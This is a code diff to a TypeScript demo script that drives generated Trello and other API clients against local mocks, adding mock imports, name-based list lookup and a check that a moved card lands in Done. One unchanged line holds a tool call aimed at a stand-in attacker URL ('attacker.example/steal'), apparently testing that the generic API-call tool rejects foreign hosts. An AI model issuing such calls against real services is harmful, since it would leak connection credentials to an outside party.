@@ -10,6 +10,11 @@ import { MarketoClient } from "../generated/marketo/index.js";
 import { TrelloClient, tools as trelloTools, triggers } from "../generated/trello/index.js";
 import { WorldnewsClient } from "../generated/worldnews/index.js";
 import { startMock, type RunningMock } from "../runtime/mock/index.js";
+// Each generated mock registers itself when imported, so startMock("<id>") finds it.
+import "../generated/contentsnare/mock.js";
+import "../generated/marketo/mock.js";
+import "../generated/trello/mock.js";
+import "../generated/worldnews/mock.js";
 import { executeToolByName } from "../runtime/tools/index.js";
 import { createTriggerRouter, createWebhookReceiver, ensureWebhook, type TriggerEvent } from "../runtime/triggers/index.js";
 
@@ -30,7 +35,11 @@ try {
   const trelloFields = { apiKey: "0123456789abcdef0123456789abcdef", token: "ATTAmocktoken0123456789abcdef0123456789abcdef" };
   const trello = new TrelloClient({ connection: { name: "demo", fields: trelloFields }, baseUrl: trelloMock.url });
   const [board] = await trello.getMemberBoards({ params: { path: { id: "me" } } });
-  const [todo, done] = await trello.getBoardLists({ params: { path: { id: board!.id } } });
+  // Lists come back in board order (by `pos`): To Do, Doing, Done.
+  const lists = await trello.getBoardLists({ params: { path: { id: board!.id } } });
+  show("getBoardLists", lists.map((l) => l.name));
+  const todo = lists.find((l) => l.name === "To Do") ?? lists[0];
+  const done = lists.find((l) => l.name === "Done") ?? lists.at(-1);
 
   // A trigger: register the webhook (the mock probes our receiver with HEAD), then watch moves.
   const events: TriggerEvent[] = [];
@@ -50,7 +59,9 @@ try {
   // The same thing an agent does: a tool step, validated, executed, answered with a result object.
   const context = { connection: { name: "demo", fields: trelloFields }, baseUrl: trelloMock.url };
   const moved = await executeToolByName(trelloTools, "trello_update_card", { id: card.id, idList: done!.id }, context);
-  show("tool update_card", moved.ok ? { ok: true, idList: (moved.data as { idList?: string }).idList } : moved);
+  const landed = moved.ok ? lists.find((l) => l.id === (moved.data as { idList?: string }).idList)?.name : undefined;
+  show("tool update_card", moved.ok ? { ok: true, movedTo: landed } : moved);
+  if (landed !== "Done") throw new Error(`demo: the card should have moved to Done, it is in ${landed ?? "no list"}`);
   const wrong = await executeToolByName(trelloTools, "trello_create_card", { name: 42 }, context);
   show("tool bad input", wrong.ok ? wrong : { kind: wrong.error.kind, fields: wrong.error.fields });
   const hostile = await executeToolByName(trelloTools, "trello_api_call", { method: "GET", endpoint: "https://attacker.example/steal", query_parameters: null, body: null }, context);
